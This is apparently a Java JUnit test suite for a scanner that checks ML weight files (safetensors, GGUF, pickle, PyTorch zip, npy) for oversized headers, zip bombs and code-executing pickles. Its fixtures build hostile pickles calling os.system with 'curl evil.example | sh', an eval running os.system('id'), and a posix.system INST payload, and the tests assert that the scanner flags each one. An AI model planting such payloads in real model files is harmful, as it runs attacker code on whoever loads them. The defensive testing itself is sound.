package dev.canship.hostile;

import dev.canship.extract.pickle.PickleWriter;
import dev.canship.extract.weights.GgmlType;
import dev.canship.extract.weights.TestWeights;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import static org.assertj.core.api.Assertions.assertThat;

/** Weight files that lie about their sizes, bomb their readers, or run code when loaded. */
class HostileWeightsTest {

    @BeforeAll
    static void warmUp(@TempDir Path dir) throws IOException {
        Hostile.warmUp(dir);
    }

    static byte[] osSystemReduce() {
        return PickleWriter.proto(2).global("os", "system").unicodeX("curl evil.example | sh").tuple1().reduce().stop().bytes();
    }

    @Test
    void lyingAndTruncatedSafetensorsHeadersAreDiagnostics(@TempDir Path dir) throws IOException {
        Path repo = Hostile.repo(dir);
        TestWeights.rawSafetensors(repo.resolve("a.safetensors"), Long.MAX_VALUE, Hostile.utf8("{}"), 64);
        TestWeights.rawSafetensors(repo.resolve("b.safetensors"), 1L << 40, Hostile.utf8("{"), 1L << 41);
        byte[] json = Hostile.utf8(TestWeights.safetensorsJson(null, List.of(TestWeights.t("w", "F32", 1000, 1000))));
        TestWeights.rawSafetensors(repo.resolve("c.safetensors"), json.length, json, 8 + json.length + 10);
        TestWeights.rawSafetensors(repo.resolve("d.safetensors"), json.length + 100, json, 8 + json.length);
        Files.write(repo.resolve("e.safetensors"), new byte[] {1, 2, 3});
        Hostile.Run r = Hostile.scan(repo);
        assertThat(r.diagnostics()).anySatisfy(d -> assertThat(d).startsWith("a.safetensors: header length 9223372036854775807 bytes exceeds"))
                .anySatisfy(d -> assertThat(d).startsWith("b.safetensors: header length 1099511627776 bytes exceeds the limit"))
                .anySatisfy(d -> assertThat(d).startsWith("c.safetensors: tensor 'w' data_offsets [0, 4000000] fall outside"))
                .anySatisfy(d -> assertThat(d).startsWith("d.safetensors: header length"))
                .anySatisfy(d -> assertThat(d).startsWith("e.safetensors: file is 3 bytes"));
    }

    @Test
    void lyingAndTruncatedGgufHeadersAreDiagnostics(@TempDir Path dir) throws IOException {
        Path repo = Hostile.repo(dir);
        new TestWeights.Gguf().overrideTensorCount(Long.MAX_VALUE).write(repo.resolve("a.gguf"), 0);
        new TestWeights.Gguf().overrideKvCount(500_000).write(repo.resolve("b.gguf"), 0);
        new TestWeights.Gguf().lyingString("general.name", 1L << 40).write(repo.resolve("c.gguf"), 0);
        new TestWeights.Gguf().lyingArray("tokenizer.ggml.tokens", 8, 1L << 31).write(repo.resolve("d.gguf"), 0);
        new TestWeights.Gguf().string("general.architecture", "llama").tensor("blk.0.attn_q.weight", GgmlType.F16, 4096, 4096)
                .writeTruncated(repo.resolve("e.gguf"), 50);
        new TestWeights.Gguf().stringArray("tokenizer.ggml.tokens", 100).write(repo.resolve("f.gguf"), 0);
        Hostile.Run r = Hostile.scan(repo, "--limit", "max-gguf-kv=10");
        assertThat(r.diagnostics()).anySatisfy(d -> assertThat(d).startsWith("a.gguf: tensor count 9223372036854775807 exceeds the limit"))
                .anySatisfy(d -> assertThat(d).startsWith("b.gguf: metadata count 500000 exceeds the limit of 10"))
                .anySatisfy(d -> assertThat(d).startsWith("c.gguf: string 'general.name' declares length"))
                .anySatisfy(d -> assertThat(d).startsWith("d.gguf: "))
                .anySatisfy(d -> assertThat(d).startsWith("e.gguf: tensor count 1 and metadata count 1 cannot fit in the 26 bytes"));
        assertThat(r.diagnostics()).noneMatch(d -> d.startsWith("f.gguf"));
    }

    @Test
    void aZipBombPosingAsPytorchModelBinIsCheap(@TempDir Path dir) throws IOException {
        Path repo = Hostile.repo(dir);
        try (ZipOutputStream zip = new ZipOutputStream(Files.newOutputStream(repo.resolve("pytorch_model.bin")))) {
            zip.setLevel(Deflater.BEST_COMPRESSION);
            zip.putNextEntry(new ZipEntry("archive/data.pkl"));
            byte[] chunk = new byte[1 << 20];
            for (int i = 0; i < 16; i++) {
                zip.write(chunk);
            }
            zip.closeEntry();
            for (int i = 0; i < 2000; i++) {
                zip.putNextEntry(new ZipEntry("archive/data/" + i));
                zip.closeEntry();
            }
        }
        Hostile.Run r = Hostile.check(repo);
        assertThat(r.exit()).isEqualTo(1);
        assertThat(r.findings()).containsExactly("UNPARSEABLE-PICKLE pytorch_model.bin");
        assertThat(r.serialization("pytorch_model.bin").path("error").asText()).contains("zip bomb").contains("max-zip-ratio");
        Hostile.Run fewEntries = Hostile.check(repo, "--limit", "max-zip-entries=100");
        assertThat(fewEntries.serialization("pytorch_model.bin").path("error").asText()).contains("2001 entries").contains("max-zip-entries");
    }

    @Test
    void osSystemThroughReduceIsAnUnsafeSerializationError(@TempDir Path dir) throws IOException {
        Path repo = Hostile.repo(dir);
        PickleWriter.torchZip(repo.resolve("pytorch_model.bin"), osSystemReduce(), 2);
        Hostile.Run r = Hostile.check(repo);
        assertThat(r.exit()).isEqualTo(1);
        assertThat(r.findings()).containsExactly("UNSAFE-SERIALIZATION pytorch_model.bin");
        assertThat(r.json().path("findings").get(0).path("message").asText())
                .startsWith("pytorch_model.bin (pytorch-zip) would import or call code outside the checkpoint allowlist when loaded: os.system");
        Hostile.Run scan = Hostile.scan(repo);
        assertThat(scan.serialization("pytorch_model.bin").path("unsafe").get(0).asText()).startsWith("os.system");
    }

    @Test
    void evalThroughStackGlobalWithMemoTricksIsFound(@TempDir Path dir) throws IOException {
        Path repo = Hostile.repo(dir);
        byte[] p = PickleWriter.proto(4).frame(0)
                .unicode("builtins").binput(1).op('0')
                .unicode("eval").binput(2).op('0')
                .global("collections", "OrderedDict").emptyTuple().reduce().binput(3).op('0')
                .binget(1).binget(2).stackGlobal()
                .unicode("__import__('os').system('id')").tuple1().reduce().stop().bytes();
        Files.write(repo.resolve("model.pkl"), p);
        Hostile.Run r = Hostile.check(repo);
        assertThat(r.findings()).containsExactly("UNSAFE-SERIALIZATION model.pkl");
        assertThat(r.json().path("findings").get(0).path("message").asText()).contains("builtins.eval (evaluates Python code; REDUCE, STACK_GLOBAL)");
    }

    @Test
    void nestedPicklesAreScannedToo(@TempDir Path dir) throws IOException {
        Path repo = Hostile.repo(dir);
        byte[] inner = osSystemReduce();
        byte[] outer = PickleWriter.proto(2).global("torch.storage", "_load_from_bytes").bytes(inner).tuple1().reduce().stop().bytes();
        PickleWriter.torchZip(repo.resolve("model.pt"), outer, 0);
        Hostile.Run r = Hostile.scan(repo);
        assertThat(r.serialization("model.pt").path("unsafe")).extracting(n -> n.asText().split(" ")[0])
                .containsExactly("torch.storage._load_from_bytes", "os.system");
        assertThat(r.serialization("model.pt").path("globals").get(1).path("nested").asBoolean()).isTrue();
    }

    @Test
    void posixSystemThroughInstIsFound(@TempDir Path dir) throws IOException {
        Path repo = Hostile.repo(dir);
        Files.write(repo.resolve("optimizer.pt"), PickleWriter.plain().mark().string("id").inst("posix", "system").stop().bytes());
        Hostile.Run r = Hostile.check(repo);
        assertThat(r.findings()).containsExactly("UNSAFE-SERIALIZATION optimizer.pt");
        assertThat(r.serialization("optimizer.pt").path("unsafe").get(0).asText()).contains("posix.system").contains("INST");
        assertThat(r.json().path("findings").get(0).path("remediation").asText()).startsWith("It is not model weights");
    }

    @Test
    void anObjectNpyCarryingAPickleIsScanned(@TempDir Path dir) throws IOException {
        Path repo = Hostile.repo(dir);
        Files.write(repo.resolve("embeddings.npy"), PickleWriter.npyObject(osSystemReduce()));
        Hostile.Run r = Hostile.check(repo);
        assertThat(r.findings()).containsExactly("UNSAFE-SERIALIZATION embeddings.npy");
    }

    @Test
    void aTruncatedPickleIsNotAPass(@TempDir Path dir) throws IOException {
        Path repo = Hostile.repo(dir);
        byte[] clean = PickleWriter.stateDict("w");
        PickleWriter.torchZip(repo.resolve("pytorch_model.bin"), java.util.Arrays.copyOf(clean, clean.length - 5), 1);
        Hostile.Run r = Hostile.check(repo);
        assertThat(r.findings()).containsExactly("UNPARSEABLE-PICKLE pytorch_model.bin");
        assertThat(r.serialization("pytorch_model.bin").path("error").asText()).contains("ends without a STOP opcode");
    }

    @Test
    void cleanPickleWeightsBesideSafetensorsAreAnInfo(@TempDir Path dir) throws IOException {
        Path repo = Hostile.repo(dir);
        PickleWriter.torchZip(repo.resolve("pytorch_model.bin"), PickleWriter.stateDict("w"), 1);
        TestWeights.safetensors(repo.resolve("model.safetensors"), Map.of(), List.of(TestWeights.t("w", "BF16", 2, 2)), 0);
        Hostile.Run r = Hostile.check(repo);
        assertThat(r.exit()).isZero();
        assertThat(r.findings()).containsExactly("PICKLE-BESIDE-SAFETENSORS pytorch_model.bin");
        assertThat(r.serialization("pytorch_model.bin").path("unsafe")).isEmpty();
    }

    @Test
    void aZipWithALyingEntrySizeIsRefused(@TempDir Path dir) throws IOException {
        Path repo = Hostile.repo(dir);
        Path f = PickleWriter.torchZip(repo.resolve("pytorch_model.bin"), PickleWriter.stateDict("w"), 1);
        byte[] zip = Files.readAllBytes(f);
        // Rewrite data.pkl's uncompressed size in the central directory to a petabyte.
        ByteBuffer b = ByteBuffer.wrap(zip).order(ByteOrder.LITTLE_ENDIAN);
        for (int i = zip.length - 22; i >= 0; i--) {
            if (b.getInt(i) == 0x02014b50) {
                int nameLen = b.getShort(i + 28);
                String name = new String(zip, i + 46, nameLen, java.nio.charset.StandardCharsets.UTF_8);
                if (name.equals("archive/data.pkl")) {
                    b.putInt(i + 24, 0xfffffff0);
                }
            }
        }
        try (OutputStream out = Files.newOutputStream(f)) {
            out.write(zip);
        }
        Hostile.Run r = Hostile.check(repo);
        assertThat(r.findings()).containsExactly("UNPARSEABLE-PICKLE pytorch_model.bin");
    }
}
